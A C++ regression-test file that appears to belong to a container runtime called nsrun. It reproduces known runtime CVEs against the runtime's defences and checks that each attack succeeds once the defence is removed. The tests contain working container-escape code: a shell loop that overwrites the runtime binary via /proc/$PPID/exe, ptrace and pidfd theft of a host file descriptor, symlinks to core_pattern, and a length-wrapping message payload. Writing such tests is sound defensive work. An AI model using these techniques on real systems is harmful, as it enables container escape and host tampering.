// The known CVEs of container runtimes. Each attack is made for real and must fail. If the defence
// can be removed, the attack must then work. docs/reliability.md describes each CVE.
#include <fcntl.h>
#include <linux/capability.h>
#include <sched.h>
#include <signal.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include <atomic>
#include <filesystem>

#include "syscalls/mount.h"
#include "tests/support/nsrun.h"
#include "tests/support/sealing.h"
#include "tests/support/seccomp.h"
#include "tests/support/supervisor.h"
#include "tests/support/support.h"

namespace {

using stub::Attribute;
using sys::Fd;
using test::built;
using test::contains;
using test::Message;
using test::Outcome;
using test::Parent;
using test::Pids;
using test::Sealing;
using test::SupervisedCall;
using test::Supervisor;
using test::Verdict;
using std::chrono_literals::operator""s;

std::string proc(pid_t pid, const std::string& file) {
  return "/proc/" + std::to_string(pid) + "/" + file;
}

// Removes a defence that is a system call: the call returns 0 and does nothing.
Verdict pretend() { return {Verdict::kFail, 0}; }

class CveTest : public test::NsrunShellTest {
 protected:
  void SetUp() override { REQUIRE_ROOT(); }
};

// The container keeps an fd of the binary that entered it, and writes through it as soon as no
// process executes the binary any more.
std::string binary_after_an_attack_through_proc_exe(Sealing sealing) {
  const test::TemporaryDirectory directory;
  const test::TemporaryDirectory state;
  const std::string binary = directory.file("runtime");
  test::copy_program_sealed_by(built("tests/probe"), binary, {sealing});
  const test::Sleeper container(CLONE_NEWNS | CLONE_NEWPID);
  Parent parent(binary);
  parent.environment["_LIBCONTAINER_STATEDIR"] = state.path();
  parent.with_report = true;
  const Pids pids = parent.run(
      Message()
          .text(Attribute::kNamespacePaths, "mnt:" + container.namespace_path("mnt") +
                                                ",pid:" + container.namespace_path("pid"))
          .bytes());
  EXPECT_EQ("1", parent.read_report()["end"]);
  if (pids.stage2 <= 0) return "no start";
  test::run_in_namespaces_of(container.pid(), [&] {
    const Fd kept(open(proc(pids.stage2, "exe").c_str(), O_PATH | O_CLOEXEC));
    kill(pids.stage2, SIGKILL);
    const std::string again = test::fd_path(kept.get());
    const Fd fd = test::open_when_not_executed(again, O_WRONLY | O_TRUNC);
    if (fd.is_open()) (void)!write(fd.get(), "owned", 5);
  });
  return test::read_file(binary).substr(0, 5);
}

TEST_F(CveTest, CVE_2019_5736_TheBinaryCannotBeWrittenThroughProcExe) {
  EXPECT_NE("owned", binary_after_an_attack_through_proc_exe(test::available().front()));
  EXPECT_EQ("owned", binary_after_an_attack_through_proc_exe(Sealing::kNone))
      << "the control: the attack works";
}

// Attacks nsrun itself: in its root file system the command is a symlink to /proc/self/exe. So
// nsrun executes itself inside, and its own command there opens the binary.
TEST_F(CveTest, CVE_2019_5736_NsrunIsNotOverwrittenByItsOwnCommand) {
  ASSERT_EQ(0, symlink("/proc/self/exe", root_.file("self").c_str()));
  const std::string attack =
      "exec 3< /proc/$PPID/exe; (for try in $(seq 30); do"
      " sleep 0.1; echo overwritten > /proc/self/fd/3 && exit; done) 2> /dev/null & exit 0";
  for (const char* seal : {"auto", "memfd", "none"}) {
    // The caller may set the variable that claims that nsrun is sealed.
    for (const char* variable : {"SOME_VARIABLE", "_LIBCONTAINER_CLONED_BINARY"}) {
      const std::string before = test::read_file(nsrun_);
      const Outcome outcome = test::run_command(
          {nsrun_,     "--seal",     seal,    "--share-pid", "--share-user", "--cap-add", "all",
           "--rootfs", root_.path(), "--env", "PATH=/bin",   "--",           "/self",     "--seal",
           "none",     "--ns",       "none",  "--",          "/bin/sh",      "-c",        attack},
          {.environment = {{variable, "1"}}});
      const bool overwritten = test::read_file(nsrun_) != before;
      EXPECT_EQ(seal == std::string("none"), overwritten) << seal << " " << variable << outcome.err;
      if (overwritten) test::copy_program(built("nsrun"), nsrun_);
    }
  }
}

// The container's root traces the process that enters, reads its memory and takes its fds, before
// the process has executed anything. Returns whether any of this worked.
bool steals_from_who_enters(bool with_defence) {
  const test::Sleeper container(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID);
  const test::TemporaryDirectory directory;
  test::write_file(directory.file("secret"), "of the host");
  const Fd secret(open(directory.file("secret").c_str(), O_RDONLY | O_CLOEXEC));
  std::atomic<bool> stolen = false;
  std::atomic<bool> tried = false;
  // When stage 2 is about to call setsid, it is already in the container.
  const auto attack = [&](pid_t pid) {
    test::run_in_namespaces_of(
        container.pid(),
        [&] {
          bool good = ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) == 0;
          char byte = 0;
          const Fd fd(open(proc(pid, "fd/" + std::to_string(secret.get())).c_str(), O_RDONLY));
          good = good || (fd.is_open() && read(fd.get(), &byte, 1) == 1);
          const Fd memory(open(proc(pid, "mem").c_str(), O_RDWR | O_CLOEXEC));
          good = good || memory.is_open();
          const Fd pidfd(static_cast<int>(syscall(SYS_pidfd_open, pid, 0)));
          const Fd taken(static_cast<int>(syscall(SYS_pidfd_getfd, pidfd.get(), secret.get(), 0)));
          good = good || taken.is_open();
          _exit(good ? 7 : 0);
        },
        [&](const test::Status& status) { stolen = status.exited_with(7); });
    tried = true;
  };
  Supervisor supervisor([&](const SupervisedCall& call) {
    const bool gives_up = call.number == SYS_prctl && call.arguments[0] == PR_SET_DUMPABLE;
    if (gives_up && !with_defence) return pretend();
    if (call.number == SYS_setsid) attack(call.pid);
    return Verdict{};
  });
  Parent parent(built("nsexec-true"));
  parent.inherited = {secret.get()};
  parent.before_exec = [&] { supervisor.install(); };
  parent.run(Message()
                 .text(Attribute::kNamespacePaths, "user:" + container.namespace_path("user") +
                                                       ",mnt:" + container.namespace_path("mnt") +
                                                       ",pid:" + container.namespace_path("pid"))
                 .bytes());
  (void)supervisor.finish();
  EXPECT_TRUE(tried);
  return stolen;
}

TEST_F(CveTest, CVE_2016_9962_AnEnteringProcessCannotBeTracedOrRead) {
  EXPECT_FALSE(steals_from_who_enters(true));
  EXPECT_TRUE(steals_from_who_enters(false)) << "the control: the attack works";
}

// Tries to get to a directory of the host through an open fd.
TEST_F(CveTest, CVE_2024_21626_NoWorkingDirectoryOutsideOfTheRoot) {
  const std::string mark = bin_.file("mark");
  test::write_file(mark, "the host's");
  for (int number = 3; number < 24; ++number) {
    const std::string fd = test::fd_path(number);
    const Outcome outcome = nsrun({"--rootfs", root_.path(), "--chdir", fd, "--env", "PATH=/bin",
                                   "--", "/bin/sh", "-c", "cat ../../../../../../" + mark});
    EXPECT_EQ("", outcome.out) << fd;
  }
  // The caller may also have left such a directory open.
  const Outcome outcome = test::run_command(
      {nsrun_, "--rootfs", root_.path(), "--keep-fds", "--chdir", "/proc/self/fd/9", "--",
       "/bin/cat", "mark"},
      {.before_exec = [&] { dup2(open(bin_.path().c_str(), O_RDONLY | O_DIRECTORY), 9); }});
  EXPECT_EQ("", outcome.out);
  EXPECT_TRUE(outcome.status.exited_with(125)) << outcome.status;
  EXPECT_TRUE(contains(outcome.err, "--chdir /proc/self/fd/9: outside of the root")) << outcome.err;
  // The stub does not change the directory and leaves no fd open: Handover.LeavesNoFdOfTheStubsOwn.
  Parent parent(built("tests/probe"));
  parent.with_report = true;
  const Pids pids = parent.run(Message().flags(CLONE_NEWNS | CLONE_NEWPID).bytes());
  EXPECT_EQ("1", parent.read_report()["end"]);
  EXPECT_EQ(test::read_link("/proc/self/cwd"), test::read_link(proc(pids.stage2, "cwd")));
  parent.finish_probe();
  EXPECT_TRUE(test::wait_for(pids.stage2).exited_with(0));
}

// Sends a string so long that its length wraps in the 16 bits of an attribute's header. Its content
// would then be read as attributes.
TEST_F(CveTest, CVE_2021_43784_NoLengthWraps) {
  const std::string injected = Message().flags(CLONE_NEWNET).bytes().substr(16);
  // Writes it as the vulnerable encoder did: the length is cut to 16 bits.
  std::string payload = "0 0 1\n";
  payload.append(0x10000 - 8, ' ');
  const auto wrapped = static_cast<uint16_t>(4 + payload.size());
  const std::string attribute = test::native16(wrapped) +
                                test::native16(static_cast<unsigned>(Attribute::kUidMap)) +
                                payload + injected;
  Parent parent(built("nsexec-true"));
  parent.start();
  parent.send(Message().raw(attribute).bytes());
  EXPECT_TRUE(parent.wait_stage0().exited_with(1));
  EXPECT_TRUE(contains(parent.fatal(), "bootstrap message: ")) << parent.log();
  // nsrun's own encoder refuses such a string.
  std::string map = "0:0:1";
  for (int i = 1; i < 6000; ++i) map += "," + std::to_string(i) + ":" + std::to_string(i) + ":1";
  const Outcome outcome = nsrun({"--uid-map", map, "--gid-map", "0:0:1", "--", "/bin/true"});
  EXPECT_TRUE(outcome.status.exited_with(125)) << outcome.status;
  EXPECT_NE("", outcome.err);
}

// A program with file capabilities gets those capabilities back that a caller has made inheritable.
TEST_F(CveTest, CVE_2022_29162_NothingIsInheritable) {
  const auto raise = [] {
    __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
    __user_cap_data_struct data[2] = {};
    if (syscall(SYS_capget, &header, data) != 0) _exit(90);
    for (auto& half : data) half.inheritable = half.permitted;
    if (syscall(SYS_capset, &header, data) != 0) _exit(91);
  };
  const auto inheritable = [&](const test::Arguments& command) {
    const Outcome outcome = test::run_command(command, {.before_exec = raise});
    return outcome.out + outcome.err;
  };
  EXPECT_EQ("CapInh:\t0000000000000000\n",
            inheritable({nsrun_, "--rootfs", root_.path(), "--", "/bin/grep", "CapInh",
                         "/proc/self/status"}));
  EXPECT_NE("CapInh:\t0000000000000000\n",
            inheritable({"/bin/grep", "CapInh", "/proc/self/status"}))
      << "the control: the attack works";
}

// The root file system's /proc is a symlink to a directory of the host, or to a fake that would
// receive what is written to /proc.
TEST_F(CveTest, CVE_2019_19921_and_CVE_2023_27561_ProcIsARealProc) {
  const test::TemporaryDirectory victim;
  unlink(root_.file("proc").c_str());
  rmdir(root_.file("proc").c_str());
  ASSERT_EQ(0, symlink(victim.path().c_str(), root_.file("proc").c_str()));
  expect_error({"--rootfs", root_.path(), "--", "/bin/true"}, 125, "--rootfs /proc: ENOENT");
  EXPECT_EQ(0, rmdir(victim.path().c_str())) << "the directory is not empty any more";
  mkdir(victim.path().c_str(), 0700);

  unlink(root_.file("proc").c_str());
  std::filesystem::create_directories(root_.file("fake/self/attr"));
  test::write_file(root_.file("fake/self/attr/exec"), "precious", 0666);
  ASSERT_EQ(0, symlink("fake", root_.file("proc").c_str()));
  EXPECT_EQ("proc\n", inside("stat -f -c %T /proc/"));
  EXPECT_EQ("", inside("[ ! -e /proc/kcore ] || head -c 1 /proc/kcore"))
      << "/proc/kcore is not hidden";
  EXPECT_EQ("precious", test::read_file(root_.file("fake/self/attr/exec")));
}

// The root file system's /dev/null is a symlink to a file that the container wants, and a
// vulnerable runtime binds "/dev/null" over the files that it hides.
TEST_F(CveTest, CVE_2025_31133_FilesAreHiddenByTheRealNull) {
  mkdir(root_.file("dev").c_str(), 0755);
  for (const char* name : {"null", "zero", "full", "tty", "console"}) {
    ASSERT_EQ(0, symlink("/proc/sys/kernel/core_pattern",
                         root_.file(std::string("dev/") + name).c_str()));
  }
  const std::string before = test::read_file("/proc/sys/kernel/core_pattern");
  EXPECT_EQ("1:3\n", inside("stat -c %t:%T /dev/null"));
  EXPECT_EQ("", inside("for f in /proc/kcore /proc/keys /proc/timer_list; do "
                       "[ ! -e $f ] || [ \"$(head -c 1 $f)\" = '' ] || echo $f; echo '|x' > $f; "
                       "done 2> /dev/null"));
  EXPECT_EQ("", inside("(echo x > /proc/sys/kernel/core_pattern) 2> /dev/null && echo written"));
  EXPECT_EQ(before, test::read_file("/proc/sys/kernel/core_pattern"));
}

// The root file system's /dev/console and /dev/ptmx are symlinks to files that the container wants,
// and the runtime mounts a terminal there.
TEST_F(CveTest, CVE_2025_52565_TheTerminalIsNotMountedThroughASymlink) {
  mkdir(root_.file("dev").c_str(), 0755);
  test::write_file(root_.file("victim"), "precious");
  ASSERT_EQ(0, symlink("/victim", root_.file("dev/console").c_str()));
  ASSERT_EQ(0, symlink("/victim", root_.file("dev/ptmx").c_str()));
  ASSERT_EQ(0, symlink("/proc/sys/kernel", root_.file("dev/pts").c_str()));
  const Outcome outcome =
      nsrun({"--rootfs", root_.path(), "--tty", "--env", "PATH=/bin", "--", "/bin/sh", "-c",
             "cat /victim; echo; stat -c %F $(tty); ls /proc/sys/kernel/core_pattern"});
  EXPECT_TRUE(contains(outcome.out, "precious")) << outcome.out << outcome.err;
  EXPECT_TRUE(contains(outcome.out, "character special file")) << outcome.out << outcome.err;
  EXPECT_TRUE(contains(outcome.out, "/proc/sys/kernel/core_pattern")) << outcome.out << outcome.err;
  EXPECT_EQ("precious", test::read_file(root_.file("victim")));
}

// The attacker mounts a file over one of /proc right before the stub writes to it.
struct Redirected {
  bool written = false;  // the stub's data went into the attacker's file
  bool refused = false;
  std::string fatal;
};
Redirected write_redirected(const std::string& file, bool with_defence) {
  Redirected result;
  const test::TemporaryDirectory directory;
  const std::string victim = directory.file("victim");
  test::write_file(victim, "precious", 0666);
  std::string over;
  Supervisor supervisor([&](const SupervisedCall& call) {
    if (call.number != SYS_openat2) return Verdict{};
    const std::string path = test::text_of(call, 1);
    if (!contains(path, file)) return Verdict{};
    over = std::string("/proc/") + (contains(path, "self") ? std::to_string(call.pid) : "") +
           (contains(path, "self") ? path.substr(4) : path);
    EXPECT_EQ(0, mount(victim.c_str(), over.c_str(), nullptr, MS_BIND, nullptr)) << over;
    if (with_defence) return Verdict{};
    // RESOLVE_* is the third word of struct open_how.
    const uint64_t nothing = 0;
    const iovec resolve = {reinterpret_cast<void*>(call.arguments[2] + 16), 8};
    const iovec zero = {const_cast<uint64_t*>(&nothing), 8};
    (void)process_vm_writev(call.pid, &zero, 1, &resolve, 1, 0);
    return Verdict{};
  });
  Parent parent(built("nsexec-true"));
  parent.before_exec = [&] { supervisor.install(); };
  parent.start();
  parent.send(Message()
                  .flags(CLONE_NEWUSER | CLONE_NEWTIME)
                  .boolean(Attribute::kRootless, true)
                  .text(Attribute::kOomScoreAdj, "500")
                  .text(Attribute::kUidMap, "0 0 1\n")
                  .text(Attribute::kGidMap, "0 0 1\n")
                  .text(Attribute::kTimeOffsetsOrMountSources, "monotonic 10 0\n")
                  .bytes());
  result.refused = parent.wait_stage0().exited_with(1);
  result.fatal = parent.fatal();
  (void)supervisor.finish();
  umount2(over.c_str(), MNT_DETACH);
  result.written = test::read_file(victim) != "precious";
  return result;
}

TEST_F(CveTest, CVE_2025_52881_WritesToProcAreNotRedirected) {
  const pid_t child = fork();
  if (child == 0) {
    bool good = unshare(CLONE_NEWNS) == 0 &&
                mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) == 0;
    for (const char* file :
         {"oom_score_adj", "setgroups", "uid_map", "gid_map", "timens_offsets"}) {
      const Redirected result = write_redirected(file, true);
      good = good && !result.written && result.refused &&
             contains(result.fatal, std::string("/") + file + ": EXDEV");
      if (!good) fprintf(stderr, "%s: %s\n", file, result.fatal.c_str());
    }
    if (!write_redirected("uid_map", false).written) {
      fprintf(stderr, "the attack does not work at all\n");
      good = false;
    }
    _exit(good && !testing::Test::HasFailure() ? 0 : 1);
  }
  EXPECT_TRUE(test::wait_for(child, 60s).exited_with(0));
}

}  // namespace
